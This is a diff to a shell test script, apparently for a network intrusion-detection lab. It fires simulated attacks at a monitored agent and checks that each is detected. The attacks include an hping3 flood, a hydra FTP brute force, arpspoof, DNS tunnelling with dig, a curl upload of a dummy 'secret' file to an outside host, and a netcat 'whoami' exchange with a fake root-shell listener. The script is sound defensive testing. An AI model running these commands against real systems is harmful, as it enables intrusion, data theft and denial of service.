@@ -11,11 +11,11 @@ until_true 20 agents_online 1 || die "the agent is not heard"
 
 # What the attacks need at the other end.
 on outside nc -lk -p 8080 >/dev/null 2>&1 &
+on outside sh -c "yes 'uid=0(root) gid=0(root) groups=0(root)' | head -n 3 | nc -l -p 4444" >/dev/null 2>&1 &
 on agent python3 script/lab-login.py 21 >/dev/null 2>&1 &
 on agent arping -q -c 1 -I eth0 10.77.0.30 || true
 seq 1 60 | sed 's/^/wrong/' >"$folder/passwords"
 head -c 6000000 /dev/zero >"$folder/secret"
-long=$(printf 'a%.0s' $(seq 1 30)).$(printf 'b%.0s' $(seq 1 30)).tunnel.example
 
 failed=0
 
@@ -50,10 +50,13 @@ expect icmp_flood "$attacker_ip" on attacker hping3 -q -1 -i u2000 -c 300 "$agen
 expect brute_force "$attacker_ip" on attacker timeout 30 \
     hydra -I -t 8 -l root -P "$folder/passwords" "ftp://$agent_ip"
 expect arp_spoofing 10.77.0.30 on attacker timeout 3 arpspoof -i eth0 -t "$agent_ip" 10.77.0.30
-expect dns_tunnelling "$agent_ip" on agent dig +tries=1 +time=1 "@$outside_ip" "$long"
+# Data in names: each is another.
+names=$(for n in 1 2 3 4 5 6 7 8 9 10 11 12; do echo "$n" | sha1sum | sed 's/ .*/.tunnel.example.com/'; done)
+# shellcheck disable=SC2086 # several names
+expect dns_tunnelling "$agent_ip" on agent dig +tries=1 +time=1 "@$outside_ip" $names
 expect data_exfiltration "$agent_ip" on agent \
     curl -s --max-time 5 -H Expect: -T "$folder/secret" "http://$outside_ip:8080/"
-expect suspicious_port "$agent_ip" on agent nc -z -w 1 "$outside_ip" 4444
+expect suspicious_port "$agent_ip" on agent sh -c "echo whoami | nc -w 1 $outside_ip 4444"
 
 [ "$failed" -eq 0 ] || die "$failed of the attacks did not reach the server as they should"
 dropped=$(api /api/agents | jq '[.[0].heartbeat.interfaces[].dropped_kernel] | add')
